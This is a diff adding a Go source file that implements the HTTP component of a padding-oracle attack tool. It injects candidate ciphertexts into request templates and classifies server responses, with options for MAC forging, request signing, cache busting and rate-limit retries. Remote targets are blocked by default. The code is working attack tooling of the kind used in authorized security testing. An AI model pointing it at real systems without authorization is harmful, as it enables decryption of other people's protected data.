@@ -0,0 +1,518 @@
+// Package oracle contains ready to use implementations of the
+// goracler.Poracle interface for oracles exposed through the network.
+package oracle
+
+import (
+	"bytes"
+	"crypto/rand"
+	"encoding/hex"
+	"errors"
+	"io/ioutil"
+	"net"
+	"net/http"
+	neturl "net/url"
+	"strconv"
+	"strings"
+	"time"
+)
+
+// Placeholder is the string replaced by the encoded candidate ciphertext in
+// the url, the headers and the body of the requests sent by an HTTPOracle. In
+// the url the encoded candidate is also query escaped.
+const Placeholder = "{{ciphertext}}"
+
+// SignaturePlaceholder is the string replaced by the signature of the body in
+// the url and the headers of the requests sent by an HTTPOracle configured
+// with the WithRequestSigner option.
+const SignaturePlaceholder = "{{signature}}"
+
+// MACPlaceholder is the string replaced by the encoded MAC of the candidate
+// ciphertext in the url, the headers and the body of the requests sent by an
+// HTTPOracle configured with the WithMAC option.
+const MACPlaceholder = "{{mac}}"
+
+// ErrRemoteTarget is returned by NewHTTPOracle when the url of the template
+// points to a host that is not a loopback address and the AllowRemote option
+// is not set.
+var ErrRemoteTarget = errors.New("the target is not a loopback address, use the AllowRemote option to attack it")
+
+// ErrNoPlaceholder is returned by NewHTTPOracle when the request template
+// doesn't contain the Placeholder.
+var ErrNoPlaceholder = errors.New("the request template doesn't contain the placeholder")
+
+// Classifier decides if the response returned by the oracle means that the pad
+// of the candidate ciphertext was valid. It returns an error if the response
+// is not related to the pad, for instance, because the oracle failed.
+type Classifier func(resp *http.Response, body []byte) (bool, error)
+
+// Encoder encodes the candidate ciphertext before injecting it in the request.
+// The package provides encoders for hex and the different flavours of base64,
+// including custom alphabets. Classifiers of oracles that echo the candidate
+// in the response must decode it using exactly the inverse transformation of
+// the Encoder used, otherwise the echoed value won't match the one sent.
+type Encoder func(candidate []byte) string
+
+// HTTPOption configures an HTTPOracle.
+type HTTPOption func(*HTTPOracle)
+
+// HTTPOracle queries an oracle exposed through HTTP. For each query it builds
+// a request from a template replacing the Placeholder by the encoded candidate
+// ciphertext, and uses a Classifier to interpret the response. It's safe for
+// concurrent use.
+type HTTPOracle struct {
+	method   string
+	url      string
+	header   http.Header
+	body     string
+	classify Classifier
+	encode   Encoder
+	client   *http.Client
+	har      *harRecorder
+	layout   FieldLayout
+	sign     func(body []byte) string
+	noFollow bool
+	traffic  *trafficCounter
+	bust     string
+	params   neturl.Values
+	remote   bool
+	mac      func(c []byte) []byte
+	retries  int
+	backoff  time.Duration
+
+	jsonPath   string
+	jsonEncode Encoder
+	jsonSegs   []jsonPathSegment
+}
+
+// NewHTTPOracle returns an HTTPOracle sending requests with the given method,
+// url and body. The Placeholder must appear at least in the url or in the
+// body, unless the WithJSONFieldPath option is used. By default the
+// candidates are hex encoded and only loopback targets are allowed, see
+// AllowRemote.
+func NewHTTPOracle(method, url, body string, classify Classifier, opts ...HTTPOption) (*HTTPOracle, error) {
+	o := &HTTPOracle{
+		method:   method,
+		url:      url,
+		header:   http.Header{},
+		body:     body,
+		classify: classify,
+		encode:   HexEncoder,
+		client:   &http.Client{},
+	}
+	for _, opt := range opts {
+		opt(o)
+	}
+	if o.noFollow {
+		c := *o.client
+		c.CheckRedirect = func(*http.Request, []*http.Request) error {
+			return http.ErrUseLastResponse
+		}
+		o.client = &c
+	}
+	placeholders := []string{Placeholder}
+	for _, f := range o.layout {
+		placeholders = append(placeholders, f.Placeholder)
+	}
+	found := o.jsonPath != ""
+	if found {
+		segs, err := parseJSONPath(o.jsonPath)
+		if err != nil {
+			return nil, err
+		}
+		if _, err := setJSONField(body, segs, ""); err != nil {
+			return nil, err
+		}
+		o.jsonSegs = segs
+		if o.jsonEncode == nil {
+			o.jsonEncode = o.encode
+		}
+	}
+	for _, p := range placeholders {
+		if strings.Contains(url, p) || strings.Contains(body, p) {
+			found = true
+			break
+		}
+	}
+	if !found {
+		return nil, ErrNoPlaceholder
+	}
+	if !o.remote {
+		if err := checkLoopback(url); err != nil {
+			return nil, err
+		}
+	}
+	return o, nil
+}
+
+// checkLoopback returns ErrRemoteTarget if the host of the given url doesn't
+// resolve only to loopback addresses.
+func checkLoopback(url string) error {
+	u, err := neturl.Parse(url)
+	if err != nil {
+		return err
+	}
+	host := u.Hostname()
+	if ip := net.ParseIP(host); ip != nil {
+		if !ip.IsLoopback() {
+			return ErrRemoteTarget
+		}
+		return nil
+	}
+	ips, err := net.LookupIP(host)
+	if err != nil {
+		return err
+	}
+	for _, ip := range ips {
+		if !ip.IsLoopback() {
+			return ErrRemoteTarget
+		}
+	}
+	return nil
+}
+
+// AllowRemote allows, when allow is true, the oracle to send requests to
+// hosts that are not loopback addresses. By default NewHTTPOracle only
+// accepts urls whose host resolves to loopback addresses, so a mistyped url,
+// for instance, one pointing to a production system instead of to a local
+// test environment, is not attacked by accident. Set it only to attack
+// targets you are authorized to test.
+func AllowRemote(allow bool) HTTPOption {
+	return func(o *HTTPOracle) {
+		o.remote = allow
+	}
+}
+
+// WithHeader adds a header to the requests sent by the oracle. The Placeholder
+// is also replaced in the value of the header.
+func WithHeader(name, value string) HTTPOption {
+	return func(o *HTTPOracle) {
+		o.header.Add(name, value)
+	}
+}
+
+// WithEncoder sets the Encoder used to inject the candidates in the requests.
+func WithEncoder(e Encoder) HTTPOption {
+	return func(o *HTTPOracle) {
+		o.encode = e
+	}
+}
+
+// WithRequestSigner sets a function that signs the body of each request, after
+// the candidate has been injected, so the targets rejecting requests with an
+// invalid signature can be attacked. The signature replaces the
+// SignaturePlaceholder in the url and in the headers. It only makes sense
+// when the signature covers data controlled by the attacker and its key is
+// known, for instance, because the requests are signed by the client.
+func WithRequestSigner(sign func(body []byte) string) HTTPOption {
+	return func(o *HTTPOracle) {
+		o.sign = sign
+	}
+}
+
+// WithMAC sets a function computing the MAC of each candidate ciphertext, for
+// targets that check a MAC of the ciphertext before decrypting it. The MAC is
+// encoded using the Encoder of the oracle and replaces the MACPlaceholder. It
+// requires knowing the key of the MAC, for instance, because it's computed by
+// the client, and the exact bytes it covers: when it covers more than the
+// candidate, like the IV sent in a different field or a header, the function
+// must add them.
+func WithMAC(mac func(c []byte) []byte) HTTPOption {
+	return func(o *HTTPOracle) {
+		o.mac = mac
+	}
+}
+
+// WithCacheBusting adds to the url of each request a query param with the
+// given name and a random value, so the requests for the same candidate are
+// different and not answered from a cache, for instance, of a reverse proxy
+// or of the target itself. It only works if the target ignores the param.
+func WithCacheBusting(paramName string) HTTPOption {
+	return func(o *HTTPOracle) {
+		o.bust = paramName
+	}
+}
+
+// WithQueryParam adds to the url of each request a query param with the
+// given name and value, replacing the param with the same name in the url,
+// if any. It's meant for multi-tenant targets that select the key used to
+// decrypt the messages from a field of the request, like a tenant id: fixing
+// the field makes all the queries of an attack be decrypted with the same
+// key, which the attack requires. When the field is a header, use WithHeader
+// instead, and when it's in the body, write it in the body template.
+func WithQueryParam(name, value string) HTTPOption {
+	return func(o *HTTPOracle) {
+		if o.params == nil {
+			o.params = neturl.Values{}
+		}
+		o.params.Set(name, value)
+	}
+}
+
+// WithClient sets the http.Client used to send the requests.
+func WithClient(c *http.Client) HTTPOption {
+	return func(o *HTTPOracle) {
+		o.client = c
+	}
+}
+
+// WithoutRedirects makes the oracle return the redirect responses to the
+// Classifier instead of following them. The http.Client set with WithClient
+// is copied, so it's not modified.
+func WithoutRedirects() HTTPOption {
+	return func(o *HTTPOracle) {
+		o.noFollow = true
+	}
+}
+
+// MaxRetryAfter is the maximum time the HTTPOracle waits before retrying a
+// request answered with a 429 status, regardless of the Retry-After header.
+var MaxRetryAfter = 5 * time.Minute
+
+// WithRetry makes the oracle retry, up to retries times, the requests
+// answered with a status signaling a transient condition, instead of passing
+// the response to the Classifier. For a 429 (Too Many Requests) status it
+// waits the time indicated by the Retry-After header, which can be a number of
+// seconds or an HTTP date, up to MaxRetryAfter, or backoff if the header is
+// missing or invalid. For the 502, 503 and 504 statuses it waits backoff
+// before the first retry and doubles the wait after each retry. The 500
+// status is not retried, as many targets use it to signal an invalid pad.
+// When the retries are exhausted the last response is passed to the
+// Classifier.
+func WithRetry(retries int, backoff time.Duration) HTTPOption {
+	return func(o *HTTPOracle) {
+		o.retries = retries
+		o.backoff = backoff
+	}
+}
+
+// ErrRedirectFollowed is returned by the RedirectClassifier when the response
+// is the result of following a redirect.
+var ErrRedirectFollowed = errors.New("the redirect was followed, use the WithoutRedirects option")
+
+// Do implements the goracler.Poracle interface.
+func (o *HTTPOracle) Do(c []byte) (int, error) {
+	var req *http.Request
+	var resp *http.Response
+	var respBody []byte
+	var start time.Time
+	for attempt := 0; ; attempt++ {
+		var err error
+		req, resp, respBody, start, err = o.roundTrip(c)
+		if err != nil {
+			return 0, err
+		}
+		wait, retry := o.retryWait(resp, attempt)
+		if !retry {
+			break
+		}
+		time.Sleep(wait)
+	}
+	valid, err := o.classify(resp, respBody)
+	if err != nil {
+		return 0, err
+	}
+	if o.har != nil {
+		o.har.record(req, resp, respBody, start, valid)
+	}
+	if !valid {
+		return 0, nil
+	}
+	return 1, nil
+}
+
+// roundTrip sends the request for the given candidate and returns it together
+// with the response, its body and the time it was sent.
+func (o *HTTPOracle) roundTrip(c []byte) (*http.Request, *http.Response, []byte, time.Time, error) {
+	req, body, err := o.newRequest(c)
+	if err != nil {
+		return nil, nil, nil, time.Time{}, err
+	}
+	sent := requestLen(req, body)
+	start := time.Now()
+	resp, err := o.client.Do(req)
+	if err != nil {
+		return nil, nil, nil, time.Time{}, err
+	}
+	defer resp.Body.Close()
+	respBody, err := ioutil.ReadAll(resp.Body)
+	if err != nil {
+		return nil, nil, nil, time.Time{}, err
+	}
+	o.traffic.add(sent, responseLen(resp, respBody))
+	return req, resp, respBody, start, nil
+}
+
+// retryWait returns the time to wait before retrying the request answered
+// with the given response, and false if it must not be retried.
+func (o *HTTPOracle) retryWait(resp *http.Response, attempt int) (time.Duration, bool) {
+	if attempt >= o.retries {
+		return 0, false
+	}
+	switch resp.StatusCode {
+	case http.StatusTooManyRequests:
+		d, ok := parseRetryAfter(resp.Header.Get("Retry-After"), time.Now())
+		if !ok {
+			return o.backoff, true
+		}
+		if d > MaxRetryAfter {
+			d = MaxRetryAfter
+		}
+		return d, true
+	case http.StatusBadGateway, http.StatusServiceUnavailable, http.StatusGatewayTimeout:
+		return o.backoff << uint(attempt), true
+	}
+	return 0, false
+}
+
+// parseRetryAfter returns the time to wait indicated by the value of a
+// Retry-After header, which can be a number of seconds or an HTTP date.
+func parseRetryAfter(v string, now time.Time) (time.Duration, bool) {
+	if v == "" {
+		return 0, false
+	}
+	if secs, err := strconv.Atoi(v); err == nil {
+		if secs < 0 {
+			return 0, false
+		}
+		return time.Duration(secs) * time.Second, true
+	}
+	t, err := http.ParseTime(v)
+	if err != nil {
+		return 0, false
+	}
+	d := t.Sub(now)
+	if d < 0 {
+		d = 0
+	}
+	return d, true
+}
+
+// Host implements the goracler.HostPoracle interface. It returns the host,
+// including the port if present, of the url of the oracle.
+func (o *HTTPOracle) Host() string {
+	u, err := neturl.Parse(o.url)
+	if err != nil {
+		return o.url
+	}
+	return u.Host
+}
+
+// newRequest returns the request for the given candidate and its body.
+func (o *HTTPOracle) newRequest(c []byte) (*http.Request, string, error) {
+	values, err := o.layout.values(c, o.encode)
+	if err != nil {
+		return nil, "", err
+	}
+	if o.mac != nil {
+		values[MACPlaceholder] = o.encode(o.mac(c))
+	}
+	var urlReplacements, replacements []string
+	for p, v := range values {
+		urlReplacements = append(urlReplacements, p, neturl.QueryEscape(v))
+		replacements = append(replacements, p, v)
+	}
+	body := strings.NewReplacer(replacements...).Replace(o.body)
+	if o.jsonSegs != nil {
+		body, err = setJSONField(body, o.jsonSegs, o.jsonEncode(c))
+		if err != nil {
+			return nil, "", err
+		}
+	}
+	if o.sign != nil {
+		sig := o.sign([]byte(body))
+		urlReplacements = append(urlReplacements, SignaturePlaceholder, neturl.QueryEscape(sig))
+		replacements = append(replacements, SignaturePlaceholder, sig)
+	}
+	url := strings.NewReplacer(urlReplacements...).Replace(o.url)
+	if o.bust != "" {
+		url, err = bustCache(url, o.bust)
+		if err != nil {
+			return nil, "", err
+		}
+	}
+	if len(o.params) > 0 {
+		url, err = setParams(url, o.params)
+		if err != nil {
+			return nil, "", err
+		}
+	}
+	r := strings.NewReplacer(replacements...)
+	req, err := http.NewRequest(o.method, url, bytes.NewBufferString(body))
+	if err != nil {
+		return nil, "", err
+	}
+	for name, values := range o.header {
+		for _, value := range values {
+			req.Header.Add(name, r.Replace(value))
+		}
+	}
+	return req, body, nil
+}
+
+// StatusClassifier returns a Classifier that considers the pad valid when the
+// status code of the response is one of the given ones.
+func StatusClassifier(valid ...int) Classifier {
+	return func(resp *http.Response, _ []byte) (bool, error) {
+		for _, s := range valid {
+			if resp.StatusCode == s {
+				return true, nil
+			}
+		}
+		return false, nil
+	}
+}
+
+// BodyClassifier returns a Classifier that considers the pad invalid when the
+// body of the response contains the given string.
+func BodyClassifier(invalidPad string) Classifier {
+	return func(_ *http.Response, body []byte) (bool, error) {
+		return !bytes.Contains(body, []byte(invalidPad)), nil
+	}
+}
+
+// RedirectClassifier returns a Classifier for oracles that report the pad
+// using redirects. When validOnRedirect is true, the pad is considered valid
+// when the response is a redirect, with a 3xx status code, and invalid
+// otherwise. When it's false, the opposite. The oracle must be created with
+// the WithoutRedirects option, otherwise the redirects are followed by the
+// http.Client and the Classifier returns ErrRedirectFollowed.
+func RedirectClassifier(validOnRedirect bool) Classifier {
+	return func(resp *http.Response, _ []byte) (bool, error) {
+		if resp.Request != nil && resp.Request.Response != nil {
+			return false, ErrRedirectFollowed
+		}
+		redirect := resp.StatusCode >= 300 && resp.StatusCode < 400
+		return redirect == validOnRedirect, nil
+	}
+}
+
+// setParams sets the given query params in the url.
+func setParams(url string, params neturl.Values) (string, error) {
+	u, err := neturl.Parse(url)
+	if err != nil {
+		return "", err
+	}
+	q := u.Query()
+	for name, values := range params {
+		q[name] = values
+	}
+	u.RawQuery = q.Encode()
+	return u.String(), nil
+}
+
+// bustCache adds to the url a query param with the given name and a random
+// value.
+func bustCache(url, name string) (string, error) {
+	u, err := neturl.Parse(url)
+	if err != nil {
+		return "", err
+	}
+	v := make([]byte, 8)
+	if _, err := rand.Read(v); err != nil {
+		return "", err
+	}
+	q := u.Query()
+	q.Set(name, hex.EncodeToString(v))
+	u.RawQuery = q.Encode()
+	return u.String(), nil
+}